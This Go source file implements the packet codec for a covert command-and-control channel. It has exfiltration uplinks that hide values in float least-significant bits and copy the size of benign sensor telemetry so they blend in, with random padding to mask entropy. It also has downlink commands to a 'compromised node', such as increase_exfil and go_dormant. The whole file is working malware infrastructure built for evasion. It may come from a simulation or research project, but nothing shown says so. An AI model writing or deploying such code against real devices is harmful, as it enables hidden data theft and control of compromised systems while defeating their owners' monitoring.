package covert

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math"
	"math/rand"
)

// Packet sizes on the wire. Uplink and benign telemetry packets share a
// size so the covert traffic blends in; command packets are short.
const (
	UplinkPacketSize  = 128
	CommandPacketSize = 32
)

const (
	magicUplink  = "EXF"
	magicCommand = "CMD"

	uplinkHeaderLen  = 11
	commandHeaderLen = 7

	maxExfilValues = (UplinkPacketSize - uplinkHeaderLen) / 4
)

// Uplink header flags.
const (
	flagTriggered = 0x01
	flagBit       = 0x02
	flagBeacon    = 0x80
)

// ErrMalformedMessage reports a packet that cannot be parsed: wrong
// magic, short buffer, or a body length beyond the buffer. Malformed
// messages are dropped and counted, never fatal.
var ErrMalformedMessage = errors.New("malformed covert message")

// Uplink is a decoded beacon or exfil packet.
type Uplink struct {
	NodeID    int
	Beacon    bool
	Triggered bool
	Bit       int       // header mirror of the consumed cursor bit
	TempC     float64   // reported temperature, LSB-embedded
	Values    []float64 // exfil history window, each LSB-embedded
}

// EncodeUplink serialises u into a fixed-size packet. The space after
// the body is filled with random bytes so packet entropy does not leak
// which portion is meaningful.
func EncodeUplink(u Uplink, r *rand.Rand) []byte {
	vals := u.Values
	if len(vals) > maxExfilValues {
		vals = vals[:maxExfilValues]
	}

	buf := make([]byte, UplinkPacketSize)
	copy(buf, magicUplink)
	buf[3] = byte(u.NodeID)
	var flags byte
	if u.Triggered {
		flags |= flagTriggered
	}
	if u.Bit&1 == 1 {
		flags |= flagBit
	}
	if u.Beacon {
		flags |= flagBeacon
	}
	buf[4] = flags
	binary.LittleEndian.PutUint32(buf[5:9], math.Float32bits(float32(u.TempC)))
	binary.LittleEndian.PutUint16(buf[9:11], uint16(4*len(vals)))

	off := uplinkHeaderLen
	for _, v := range vals {
		binary.LittleEndian.PutUint32(buf[off:off+4], math.Float32bits(float32(v)))
		off += 4
	}
	for ; off < len(buf); off++ {
		buf[off] = byte(r.Intn(256))
	}
	return buf
}

// DecodeUplink parses a beacon or exfil packet.
func DecodeUplink(b []byte) (Uplink, error) {
	if len(b) < uplinkHeaderLen || string(b[:3]) != magicUplink {
		return Uplink{}, fmt.Errorf("uplink header: %w", ErrMalformedMessage)
	}
	bodyLen := int(binary.LittleEndian.Uint16(b[9:11]))
	if bodyLen%4 != 0 || uplinkHeaderLen+bodyLen > len(b) {
		return Uplink{}, fmt.Errorf("uplink body length %d: %w", bodyLen, ErrMalformedMessage)
	}

	flags := b[4]
	u := Uplink{
		NodeID:    int(b[3]),
		Beacon:    flags&flagBeacon != 0,
		Triggered: flags&flagTriggered != 0,
		TempC:     float64(math.Float32frombits(binary.LittleEndian.Uint32(b[5:9]))),
	}
	if flags&flagBit != 0 {
		u.Bit = 1
	}
	for off := uplinkHeaderLen; off < uplinkHeaderLen+bodyLen; off += 4 {
		v := math.Float32frombits(binary.LittleEndian.Uint32(b[off : off+4]))
		u.Values = append(u.Values, float64(v))
	}
	return u, nil
}

// Command is a downlink instruction to a compromised node.
type Command uint8

const (
	CmdIncreaseExfil Command = 0x01
	CmdDecreaseExfil Command = 0x02
	CmdGoDormant     Command = 0x03
	CmdResume        Command = 0x04
	CmdChangePattern Command = 0x05
)

var commandNames = map[Command]string{
	CmdIncreaseExfil: "increase_exfil",
	CmdDecreaseExfil: "decrease_exfil",
	CmdGoDormant:     "go_dormant",
	CmdResume:        "resume",
	CmdChangePattern: "change_pattern",
}

func (c Command) String() string {
	if n, ok := commandNames[c]; ok {
		return n
	}
	return fmt.Sprintf("command(0x%02x)", uint8(c))
}

// Valid reports whether c is a known command code.
func (c Command) Valid() bool {
	_, ok := commandNames[c]
	return ok
}

// ParseCommand resolves a command by name.
func ParseCommand(name string) (Command, error) {
	for c, n := range commandNames {
		if n == name {
			return c, nil
		}
	}
	return 0, fmt.Errorf("unknown command %q", name)
}

// Commands returns all known commands in code order.
func Commands() []Command {
	return []Command{CmdIncreaseExfil, CmdDecreaseExfil, CmdGoDormant, CmdResume, CmdChangePattern}
}

// EncodeCommand serialises a downlink command for target.
func EncodeCommand(target int, cmd Command) []byte {
	buf := make([]byte, CommandPacketSize)
	copy(buf, magicCommand)
	binary.LittleEndian.PutUint16(buf[3:5], uint16(target))
	buf[5] = byte(cmd)
	buf[6] = 0x80
	return buf
}

// DecodeCommand parses a downlink command packet.
func DecodeCommand(b []byte) (target int, cmd Command, err error) {
	if len(b) < commandHeaderLen || string(b[:3]) != magicCommand {
		return -1, 0, fmt.Errorf("command header: %w", ErrMalformedMessage)
	}
	cmd = Command(b[5])
	if !cmd.Valid() {
		return -1, 0, fmt.Errorf("command code 0x%02x: %w", b[5], ErrMalformedMessage)
	}
	return int(binary.LittleEndian.Uint16(b[3:5])), cmd, nil
}

// EncodeTelemetry serialises a benign sensor report: node ID and the
// most recent readings, zero-padded to the shared packet size.
func EncodeTelemetry(nodeID int, readings []float64) []byte {
	buf := make([]byte, UplinkPacketSize)
	binary.LittleEndian.PutUint16(buf[0:2], uint16(nodeID))
	off := 2
	for _, v := range readings {
		if off+4 > len(buf) {
			break
		}
		binary.LittleEndian.PutUint32(buf[off:off+4], math.Float32bits(float32(v)))
		off += 4
	}
	return buf
}

// DecodeTelemetry parses a benign sensor report.
func DecodeTelemetry(b []byte) (nodeID int, readings []float64, err error) {
	if len(b) < 2 {
		return -1, nil, fmt.Errorf("telemetry header: %w", ErrMalformedMessage)
	}
	nodeID = int(binary.LittleEndian.Uint16(b[0:2]))
	for off := 2; off+4 <= len(b); off += 4 {
		v := math.Float32frombits(binary.LittleEndian.Uint32(b[off : off+4]))
		readings = append(readings, float64(v))
	}
	return nodeID, readings, nil
}
